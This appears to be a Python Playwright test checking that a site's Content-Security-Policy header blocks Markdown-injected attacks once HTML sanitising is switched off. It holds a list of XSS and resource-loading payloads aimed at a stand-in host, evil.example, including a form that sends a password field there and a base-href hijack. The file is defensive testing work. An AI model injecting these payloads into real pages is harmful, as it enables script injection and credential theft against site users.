"""What the browser itself refuses: every attack of the Markdown tests with nothing cleaned away, and the site's own headers (B53 to B66).

Nothing of the cleaning is left: HTML is let through, links lead wherever they say. Without the headers the same pages run or load
what they should not, so that silence under the headers says something."""

from __future__ import annotations

from collections.abc import Mapping
from contextlib import suppress
from typing import Any

from markdown_it import MarkdownIt
from playwright.sync_api import Browser, Dialog, Error, Route

from tests.app.ui.test_markdown import ATTACKS
from tests.support.site import BASE

HERE = "https://cairn.example"
# A page that loads itself again is nothing a policy can forbid: only the cleaning keeps it out.
OURS = [attack for attack in ATTACKS if "http-equiv" not in attack]
MORE = [
    "<script>alert(1)</script>", "<script src=https://evil.example/x.js></script>", "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css';</style>", "<object data=https://evil.example/></object>", "<embed src=https://evil.example/>",
    "<iframe src=https://evil.example/></iframe>", "<svg onload=alert(1)></svg>", "<details open ontoggle=alert(1)>x</details>",
    "<form action=https://evil.example/><input name=password><button>x</button></form>", "<base href=https://evil.example/><img src=p.png>",
    "<video src=https://evil.example/v.mp4 autoplay></video>", "<p style=\"background:url(https://evil.example/p.png)\">x</p>",
]
# So that an attack that leaves something open does not hide the next one.
CLOSED = "</style></math></svg></iframe></noscript></object></video></details></form></p>"
PRESS = """async () => {
  for (const e of [...document.querySelectorAll("a[href*='script' i]"), ...document.querySelectorAll("button")]) {
    e.click(); await new Promise(done => setTimeout(done, 20));
  }
}"""
LEAST = 15


def page_of(attacks: list[str]) -> str:
    """All attacks on one page, each with its own number in what it says or asks for."""
    parser = MarkdownIt("commonmark", {"html": True})
    parser.validateLink = lambda url: True  # type: ignore[method-assign, assignment]
    numbered = (
        parser.render(attack.replace("alert(1)", f"alert({n})").replace("evil.example/", f"evil.example/{n}/")) for n, attack in enumerate(attacks, 1)
    )
    return "<!doctype html><title>x</title><main>" + CLOSED.join(numbered) + CLOSED + "</main>"


def happenings(browser: Browser, headers: Mapping[str, str], body: str) -> set[str]:
    """What a page says aloud and whom it asks, when everything on it has been pressed."""
    done: set[str] = set()
    context = browser.new_context()

    def heard(dialog: Dialog) -> None:
        done.add(f"ran {dialog.message}")
        dialog.dismiss()

    def asked(route: Route) -> None:
        url = route.request.url
        if url == f"{HERE}/":
            route.fulfill(status=200, headers={**headers, "Content-Type": "text/html; charset=utf-8"}, body=body)
            return
        if not url.startswith((HERE, "data:")):
            done.add(f"asked {url}")
        route.fulfill(status=404, body="")

    context.on("dialog", heard)
    context.route("**/*", asked)
    page = context.new_page()
    page.goto(f"{HERE}/", wait_until="load")
    with suppress(Error):  # without the policy a form leads away
        page.evaluate(PRESS)
    page.wait_for_timeout(300)
    context.close()
    return done


def test_the_policy_stops_what_the_cleaning_would_have_taken_out(assembled: Any, browser: Browser) -> None:
    answer = assembled.test_client().get("/assets/x/js/main.js", base_url=BASE, buffered=True)
    policy = {"Content-Security-Policy": answer.headers["Content-Security-Policy"]}
    body = page_of([*OURS, *MORE])
    assert happenings(browser, policy, body) == set()
    assert len(happenings(browser, {}, body)) >= LEAST, "without the policy these attacks do something, or this shows nothing"
